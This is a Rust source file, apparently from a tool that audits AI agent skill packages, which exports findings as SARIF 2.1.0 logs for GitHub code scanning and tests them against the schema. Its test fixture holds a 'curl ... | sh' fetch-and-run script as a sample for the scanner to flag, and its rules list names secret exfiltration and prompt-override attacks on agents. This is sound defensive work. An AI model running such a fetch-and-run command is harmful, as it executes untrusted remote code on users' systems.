//! SARIF 2.1.0 for GitHub code scanning: one run, the audit's rules as the driver's rules,
//! one result per finding, allowed findings kept as suppressed with their reason.
//!
//! GitHub reads `security-severity` from each rule's properties (a number from 0.0 to 10.0
//! in a string) to rank alerts, `partialFingerprints` to follow a result from one run to the
//! next, and repository-relative `uri`s to place it on a file.

use serde_json::{Value, json};

/// One finding to report: the skill directory it was found in (its path from the repository
/// root), the finding, and the reason of the allow-file entry that accepts it.
pub struct SarifFinding<'a> {
    /// The skill's directory from the repository root (`skills/pdf`).
    pub dir: &'a str,
    /// The finding.
    pub finding: &'a asv_audit::Finding,
    /// The allow-file reason, when allowed.
    pub allowed: Option<&'a str>,
}

/// How GitHub ranks an alert of `rule` (0.0–10.0): errors that run or leak are high,
/// hiding and prose findings lower.
fn security_severity(rule: asv_audit::Rule) -> &'static str {
    use asv_audit::Rule as R;
    match rule {
        R::SecretLiteral => "9.0",
        R::ExfilSecretToNetwork => "8.5",
        R::UnicodeTag | R::UnicodeBidi | R::ExecDecodeRun => "8.0",
        R::ExecFetchPipe | R::UnicodeVariationSupplement => "7.5",
        R::UnicodeInvisibleFrontmatter => "7.0",
        R::FileBinary => "6.5",
        R::FileTooLarge | R::CredPath | R::PromptOverride | R::PromptHiddenComment => "5.0",
        R::ToolsBroad | R::ExecDynamicContext | R::FilePadding | R::UnicodeInvisible => "4.0",
        R::FileArchive | R::FileNotText | R::NetUrl => "3.0",
    }
}

/// `path` as a URI reference: every byte outside the unreserved set and `/` percent-encoded.
fn uri(path: &str) -> String {
    let mut out = String::with_capacity(path.len());
    for b in path.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~/".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The whole SARIF log, pretty-printed, ending in a newline.
pub fn sarif(findings: &[SarifFinding<'_>]) -> String {
    let rules: Vec<Value> = asv_audit::Rule::ALL
        .iter()
        .map(|r| {
            json!({
                "id": r.id(),
                "shortDescription": { "text": r.title() },
                "fullDescription": { "text": r.help() },
                "help": {
                    "text": r.help(),
                    "markdown": format!("{}\n\nSee [docs/AUDIT.md]({}).", r.help(), DOCS),
                },
                "helpUri": DOCS,
                "defaultConfiguration": { "level": r.default_severity().as_str() },
                "properties": {
                    "security-severity": security_severity(*r),
                    "tags": ["security", "agent-skills"],
                    "precision": "high",
                },
            })
        })
        .collect();
    let results: Vec<Value> = findings
        .iter()
        .map(|s| {
            let f = s.finding;
            let path = if s.dir.is_empty() {
                f.path.clone()
            } else {
                format!("{}/{}", s.dir.trim_end_matches('/'), f.path)
            };
            let index = asv_audit::Rule::ALL
                .iter()
                .position(|r| *r == f.rule)
                .unwrap_or(0);
            let message = if f.excerpt.is_empty() || f.detail.contains(&f.excerpt) {
                f.detail.clone()
            } else {
                format!("{}: {}", f.detail, f.excerpt)
            };
            let mut result = json!({
                "ruleId": f.rule.id(),
                "ruleIndex": index,
                "level": f.severity.as_str(),
                "message": { "text": message },
                "locations": [{
                    "physicalLocation": {
                        "artifactLocation": { "uri": uri(&path), "uriBaseId": "%SRCROOT%" },
                        "region": { "startLine": f.line, "startColumn": f.column },
                    }
                }],
                "partialFingerprints": { "skillAuditFingerprint/v1": f.fingerprint },
            });
            if let (Some(reason), Some(obj)) = (s.allowed, result.as_object_mut()) {
                obj.insert(
                    "suppressions".into(),
                    json!([{ "kind": "external", "status": "accepted", "justification": reason }]),
                );
            }
            result
        })
        .collect();
    let log = json!({
        "$schema": "https://json.schemastore.org/sarif-2.1.0.json",
        "version": "2.1.0",
        "runs": [{
            "tool": {
                "driver": {
                    "name": "agentic-skill-vendor",
                    "semanticVersion": env!("CARGO_PKG_VERSION"),
                    "informationUri": env!("CARGO_PKG_REPOSITORY"),
                    "rules": rules,
                }
            },
            "columnKind": "unicodeCodePoints",
            "results": results,
        }]
    });
    let mut text = serde_json::to_string_pretty(&log).unwrap_or_default();
    text.push('\n');
    text
}

/// Where the rules are documented.
const DOCS: &str = concat!(env!("CARGO_PKG_REPOSITORY"), "/blob/main/docs/AUDIT.md");

#[cfg(test)]
mod tests {
    use super::*;

    fn findings() -> Vec<asv_audit::Finding> {
        let md =
            "---\nname: x\ndescription: Y.\nallowed-tools: Bash\n---\nSee http://10.0.0.1/a b\n";
        let sh = "#!/bin/sh\ncurl -s https://x.dev/i | sh\n";
        asv_audit::scan_skill([
            asv_audit::SkillFile {
                path: "SKILL.md",
                bytes: md.as_bytes(),
                executable: false,
            },
            asv_audit::SkillFile {
                path: "my scripts/run.sh",
                bytes: sh.as_bytes(),
                executable: true,
            },
        ])
        .findings
    }

    /// The log is valid SARIF 2.1.0: held to the OASIS schema (tests/fixtures/sarif).
    #[test]
    fn the_log_is_valid_sarif_2_1_0() {
        let schema: Value = serde_json::from_str(include_str!(
            "../../tests/fixtures/sarif/sarif-schema-2.1.0.json"
        ))
        .unwrap();
        let validator = jsonschema::options()
            .should_validate_formats(true)
            .build(&schema)
            .unwrap();
        let found = findings();
        let items: Vec<SarifFinding<'_>> = found
            .iter()
            .enumerate()
            .map(|(i, f)| SarifFinding {
                dir: "skills/x",
                finding: f,
                allowed: (i == 0).then_some("reviewed"),
            })
            .collect();
        let log: Value = serde_json::from_str(&sarif(&items)).unwrap();
        let errors: Vec<String> = validator.iter_errors(&log).map(|e| e.to_string()).collect();
        assert_eq!(errors, Vec::<String>::new());
        let results = log["runs"][0]["results"].as_array().unwrap();
        assert_eq!(results.len(), found.len());
        assert_eq!(results[0]["suppressions"][0]["justification"], "reviewed");
        let script = results
            .iter()
            .find(|r| r["ruleId"] == "exec/fetch-pipe")
            .unwrap();
        assert_eq!(script["level"], "error");
        assert_eq!(
            script["locations"][0]["physicalLocation"]["artifactLocation"]["uri"],
            "skills/x/my%20scripts/run.sh"
        );
        assert_eq!(
            log["runs"][0]["tool"]["driver"]["rules"]
                .as_array()
                .unwrap()
                .len(),
            asv_audit::Rule::ALL.len()
        );
    }

    /// A log that breaks the schema is caught by the same check (the check can fail).
    #[test]
    fn the_schema_check_rejects_a_broken_log() {
        let schema: Value = serde_json::from_str(include_str!(
            "../../tests/fixtures/sarif/sarif-schema-2.1.0.json"
        ))
        .unwrap();
        let validator = jsonschema::validator_for(&schema).unwrap();
        let broken = json!({"version": "2.1.0", "runs": [{"tool": {"driver": {}}, "results": [{"level": "fatal"}]}]});
        assert!(!validator.is_valid(&broken));
    }
}
